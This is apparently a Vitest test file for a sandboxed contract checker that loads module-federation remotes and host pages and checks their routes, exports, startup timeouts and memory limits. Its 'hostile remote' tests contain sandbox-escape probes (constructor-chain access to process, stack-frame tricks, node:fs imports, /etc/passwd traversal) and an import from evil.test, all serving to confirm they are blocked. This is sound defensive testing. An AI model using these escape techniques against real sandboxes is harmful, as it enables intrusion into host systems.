import { describe, expect, it, vi } from 'vitest';
import webpack from '../testing/builds/webpack.json' with { type: 'json' };
import originjs from '../testing/builds/vite-originjs.json' with { type: 'json' };
import { fakeHost, fakeRemote } from '../testing/versions.ts';
import type { BuildManifest } from '@app/shared/contracts/release';
import { checkContract } from './contract.ts';

/**
 * An entry as rspack builds it: a global with init and get, the exposed module in a separate
 * script.
 */
function entry(container = 'tools_1_4_0'): string {
  return `
    const base = document.currentScript.src.replace(/[^/]*$/, '');
    const load = (file) => new Promise((resolve, reject) => {
      const script = document.createElement('script');
      script.src = base + file;
      script.onload = () => resolve(globalThis.chunks?.[file]);
      script.onerror = () => reject(Object.assign(new Error('Loading chunk failed: ' + script.src), { name: 'ChunkLoadError' }));
      document.head.appendChild(script);
    });
    let scope;
    globalThis.${container} = {
      init(given) { scope = given; },
      async get(name) {
        if (name !== './remote') throw new Error('Module "' + name + '" does not exist in container.');
        const factory = await load('remote.js');
        const shared = {};
        for (const key of Object.keys(scope)) shared[key] = (await Object.values(scope[key])[0].get())();
        return () => ({ default: factory(shared, load) });
      },
    };`;
}

const expose = (body: string) => `(globalThis.chunks ??= {})['remote.js'] = (shared, load) => { ${body} };`;
const GOOD = `
  const { defineRemote } = shared['@app/shared/federation/define-remote'];
  const { lazyRoute } = shared['@app/shared/federation/lazy-route'];
  const styled = shared['styled-components'].default;
  const Box = styled.div.withConfig({ componentId: 'x' })\`color: red\`;
  const Shared = shared.react.createContext(null);
  const page = lazyRoute(() => load('page.js'));
  const routes = [{ path: '/tools', title: '工具箱', Component: page }, { path: '/tools/deep', title: '深处', Component: shared.react.memo(Box) }];`;
const PAGE = `globalThis.chunks['page.js'] = () => null;`;

function remote(files: Record<string, string>) {
  const made = fakeRemote('tools', '1.4.0', {
    container: 'tools_1_4_0',
    requires: { react: '^19.0.0', 'styled-components': '^6.1.0', '@app/shared': '^1.0.0' },
    specifiers: [
      'react',
      'styled-components',
      '@app/shared/federation/define-remote',
      '@app/shared/federation/lazy-route',
    ],
  });
  const all: Record<string, string> = { 'remoteEntry.js': entry(), 'page.js': PAGE, ...files };
  made.manifest.files = Object.entries(all).map(([path, text]) => ({ path, bytes: text.length, integrity: 'sha384-' }));
  return {
    manifest: made.manifest,
    read: async (path: string) => (all[path] === undefined ? undefined : Buffer.from(all[path])),
  };
}

async function problemsOf(files: Record<string, string>, options = {}): Promise<string[]> {
  const { manifest, read } = remote(files);
  const found = await checkContract(manifest, read, options);
  expect(found.every(({ code }) => code === 'contract')).toBe(true);
  return found.map(({ message }) => message);
}

const withRoutes = (code: string) => ({ 'remote.js': expose(`${GOOD} ${code}`) });

describe('a remote that keeps the contract', () => {
  it('a remote that keeps the contract passes, with its pages loaded', async () => {
    expect(await problemsOf(withRoutes("return defineRemote({ name: 'tools', routes });"))).toEqual([]);
  });

  it('contract checks run two at a time, because each may take half a gigabyte', async () => {
    const { manifest, read } = remote(withRoutes("return defineRemote({ name: 'tools', routes });"));
    const begun = new Set<number>();
    let release = (): void => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    const checks = Array.from({ length: 4 }, (_, index) =>
      checkContract(manifest, async (path) => {
        begun.add(index);
        await held;
        return read(path);
      }),
    );
    await vi.waitFor(() => expect(begun.size).toBe(2));
    // Time in which others would start, if they were allowed to.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(begun.size).toBe(2);
    release();
    expect((await Promise.all(checks)).flat()).toEqual([]);
    expect(begun.size).toBe(4);
  });

  it('a remote needs a container, a name, a contract version and routes of its own', async () => {
    expect(await problemsOf({ 'remoteEntry.js': entry('tools_1_3_0') })).toEqual([
      'tools@1.4.0 的入口文件没有提供约定的容器 tools_1_4_0',
    ]);
    expect(await problemsOf({ 'remote.js': expose('return undefined;') })).toEqual([
      'tools@1.4.0 的 ./remote 没有默认导出远端约定：应为 { name, contract: 1, routes: [{ path, title, Component 或 mount }] }',
    ]);
    expect(
      await problemsOf(withRoutes("return { ...defineRemote({ name: 'account', routes: [] }), contract: 2 };")),
    ).toEqual([
      'tools@1.4.0 导出的名称为 account，应为 tools',
      'tools@1.4.0 遵循的远端约定为 2，应为 1',
      'tools@1.4.0 没有声明任何路由',
    ]);
  });

  it('a remote needs unique routes, inside its mounts, with title and page', async () => {
    const code = `routes.push(
      { path: '/toolshed', title: '外面', Component: page },
      { path: '/tools', title: '又一次', Component: page },
      { path: '/tools/a', title: ' ', Component: page },
      { path: '/tools/b', title: '没有页面' });
      return defineRemote({ name: 'tools', routes });`;
    expect(await problemsOf(withRoutes(code))).toEqual([
      'tools@1.4.0 的路由 /toolshed 不在挂载路径 /tools 之内',
      'tools@1.4.0 的路由 /tools 重复',
      'tools@1.4.0 的路由 /tools/a 没有标题',
      'tools@1.4.0 的路由 /tools/b 没有页面：用宿主的 React 时给出 Component，用自己的框架时给出 mount(element, props)，返回 { update, unmount }',
    ]);
  });

  it('a remote needs the files and exports of its pages', async () => {
    const code = `routes.push({ path: '/tools/x', title: '缺', Component: lazyRoute(() => load('gone.js')) },
      { path: '/tools/y', title: '错', Component: lazyRoute(() => load('page.js').then((module) => module.Missing)) });
      return defineRemote({ name: 'tools', routes });`;
    expect(await problemsOf(withRoutes(code))).toEqual([
      'tools@1.4.0 的路由 /tools/x 缺少页面文件',
      'tools@1.4.0 的路由 /tools/y 的页面不是组件',
    ]);
  });
});

/** Problems of files that others built, as a remote of the name `shop`. */
async function problemsOfOthers(files: Record<string, string>, changes: Partial<BuildManifest>): Promise<string[]> {
  const { manifest } = fakeRemote('shop', '2.0.0', { container: 'shop', requires: {}, specifiers: [], ...changes });
  manifest.files = Object.entries(files).map(([path, text]) => ({ path, bytes: text.length, integrity: 'sha384-' }));
  const found = await checkContract(manifest, async (path) => Buffer.from(files[path] ?? ''));
  return found.map(({ message }) => message);
}

const asScript = { foreign: 'script' as const, entry: 'remoteEntry.js' };
const asModule = { foreign: 'module' as const, entry: 'remoteEntry.js' };
/** A container as an ES module, whose exposed module is another file. */
const moduleOf = (exposed: string) => ({
  'remoteEntry.js': `import { ready } from './ready.js';
    export const init = () => ready;
    export const get = async () => { const found = await import('./remote.js'); return () => found; };`,
  'ready.js': 'export const ready = import.meta.url.endsWith("/ready.js");',
  'remote.js': exposed,
});
const withPage = (page: string) =>
  moduleOf(`export default { name: 'shop', contract: 1, routes: [{ path: '/shop/*', title: '商店', ${page} }] };`);
const OWN_REACT = /^shop@2\.0\.0 的页面是 React 组件，却自带 React.*mount\(element, props\)/;

describe('a remote that others built', () => {
  it.each([
    ['webpack with style-loader', webpack, asScript],
    ['Vite with @originjs/vite-plugin-federation', originjs, { ...asModule, entry: 'assets/remoteEntry.js' }],
  ])('a remote that mounts its pages passes as %s built it', async (_builder, files, changes) => {
    expect(await problemsOfOthers(files, changes)).toEqual([]);
  });

  it('a remote with components is refused unless it borrows react from the host', async () => {
    const files = withPage('Component() {}');
    expect(await problemsOfOthers(files, asModule)).toEqual([expect.stringMatching(OWN_REACT)]);
    expect(await problemsOfOthers(files, { ...asModule, specifiers: ['react'] })).toEqual([]);
  });

  it.each([
    ['names both kinds of page', 'Component() {}, mount() {}', '同时给出了 Component 和 mount'],
    ['names neither', '', '给出 mount(element, props)，返回 { update, unmount }'],
  ])('a remote is refused when a route %s', async (_what, page, message) => {
    expect((await problemsOfOthers(withPage(page), { ...asModule, specifiers: ['react'] })).join()).toContain(message);
  });

  it('an ES module that throws, lacks a file or imports from elsewhere is refused with the reason', async () => {
    expect(await problemsOfOthers(moduleOf("throw new Error('no luck');"), asModule)).toEqual([
      'shop@2.0.0 没有提供 ./remote：no luck',
    ]);
    const { 'ready.js': _gone, ...rest } = withPage('mount() {}');
    expect((await problemsOfOthers(rest, asModule)).join()).toContain('ready.js');
    expect((await problemsOfOthers(moduleOf("import 'https://evil.test/x.js';"), asModule)).join()).toContain(
      'https://evil.test/x.js is not a file of this version',
    );
  });
});

describe('a remote that does not start', () => {
  it('a remote that throws at start is refused with its error', async () => {
    expect(await problemsOf({ 'remoteEntry.js': "throw new Error('no luck');" })).toEqual([
      'tools@1.4.0 的入口文件无法执行：no luck',
    ]);
    expect(await problemsOf({ 'remoteEntry.js': 'const = 1' })).toEqual([
      "tools@1.4.0 的入口文件无法执行：Unexpected token '='",
    ]);
    expect(await problemsOf({ 'remote.js': expose("throw new Error('half way');") })).toEqual([
      'tools@1.4.0 启动时抛出错误：half way',
    ]);
    expect(await problemsOf({})).toEqual([
      'tools@1.4.0 没有提供 ./remote：Loading chunk failed: https://sandbox.invalid/r/tools/1.4.0/remote.js',
    ]);
  });

  it.each([
    ['loops', { 'remote.js': expose('for (;;);') }],
    ['waits', { 'remoteEntry.js': 'globalThis.tools_1_4_0 = { init() {}, get: () => new Promise(() => {}) };' }],
  ])('a remote that %s for ever is ended at the timeout', async (_, files) => {
    expect(await problemsOf(files, { timeoutMs: 600 })).toEqual(['tools@1.4.0 在 0.6 秒内没有启动完毕']);
  });

  it('a remote that exceeds its memory limit is ended', async () => {
    const hoard = 'const kept = []; for (;;) kept.push(new Uint8Array(8e6).fill(1));';
    const grow = 'const kept = []; for (;;) kept.push(new Array(1e5).fill({}));';
    for (const body of [hoard, grow]) {
      const [message] = await problemsOf({ 'remote.js': expose(body) }, { memoryMB: 200, timeoutMs: 30_000 });
      expect(message).toMatch(
        /^tools@1\.4\.0 (启动时占用的内存超过 200 MB|启动时抛出错误：Array buffer allocation failed)$/,
      );
    }
  });
});

describe('a hostile remote', () => {
  /** Tries every way out of the sandbox, and reports the result as its name. */
  const prying = `
    const found = [];
    const attempt = (name, way) => { try { if (way()) found.push(name); } catch {} };
    attempt('process', () => process.pid);
    attempt('require', () => require('node:fs'));
    attempt('eval', () => eval('1'));
    attempt('function', () => this.constructor.constructor('return process')());
    attempt('window', () => window.constructor.constructor('return process')().pid);
    attempt('document', () => document.createElement.constructor('return process')().pid);
    attempt('fetch', () => fetch.constructor('return process')().pid);
    attempt('frames', () => { Error.prepareStackTrace = (_, frames) => frames.some((frame) => frame.getThis()?.process ?? frame.getFunction()?.constructor('return process')()); return new Error('x').stack === true; });
    Error.prepareStackTrace = undefined;
    const host = import('node:fs').then(() => found.push('import'), (error) => {
      attempt('import error', () => error.constructor.constructor('return process')());
      attempt('import error global', () => error.constructor.constructor('return globalThis')().process);
    });`;

  it('a hostile remote reaches neither the process nor modules nor eval', async () => {
    const code = `${prying} await host; return { name: found.join(' ') || 'tools', contract: 1, routes: [{ path: '/tools', title: 'x', Component() {} }] };`;
    const asynchronous = `globalThis.chunks = { 'remote.js': undefined }; globalThis.tools_1_4_0 = { init() {}, async get() { const made = await (async () => { ${code} })(); return () => ({ default: made }); } };`;
    expect(await problemsOf({ 'remoteEntry.js': asynchronous })).toEqual([]);
  });

  it('a hostile ES module reaches neither the process nor modules nor eval', async () => {
    const code = moduleOf(`${prying} await host;
      export default { name: found.join(' ') || 'shop', contract: 1, routes: [{ path: '/shop', title: 'x', mount() {} }] };`);
    expect(await problemsOfOthers(code, asModule)).toEqual([]);
  });

  it('a hostile remote can read only its own files', async () => {
    const asked: string[] = [];
    const { manifest, read } = remote(
      withRoutes("return load('../../../../etc/passwd').catch(() => load('/etc/passwd'));"),
    );
    await checkContract(manifest, (path) => (asked.push(path), read(path)));
    expect(asked.toSorted()).toEqual(['remote.js', 'remoteEntry.js']);
  });
});

describe('a host', () => {
  const TEMPLATE =
    '<script nonce="__NONCE__"></script><script defer src="__BASE__libraries.js"></script><script defer src="__BASE__main.js"></script>';
  const started = (files: Record<string, string>) => {
    const { manifest, files: all } = fakeHost('2.0.0', { files: { 'index.html': TEMPLATE, ...files } });
    return checkContract(manifest, async (path) => all.get(path));
  };

  it('a host is started as its page starts it: its scripts run in order', async () => {
    const good = { 'libraries.js': 'window.libraries = { render() {} };', 'main.js': 'window.libraries.render();' };
    expect(await started(good)).toEqual([]);
  });

  it.each([
    ['throws at its start', { 'libraries.js': '', 'main.js': 'throw new Error("broken")' }, 'broken'],
    ['needs what is not there', { 'libraries.js': '', 'main.js': 'window.libraries.render();' }, 'undefined'],
    ['is no script', { 'libraries.js': '<!doctype html>', 'main.js': '' }, '的页面脚本无法执行'],
    ['lacks a script of its page', { 'main.js': '' }, 'libraries.js'],
  ])('a host that %s is refused', async (_what, files, why) => {
    const problems = await started(files);
    expect(problems.map(({ message }) => message).join()).toContain(why);
    expect(problems[0]?.message).toContain('host@2.0.0');
  });
});
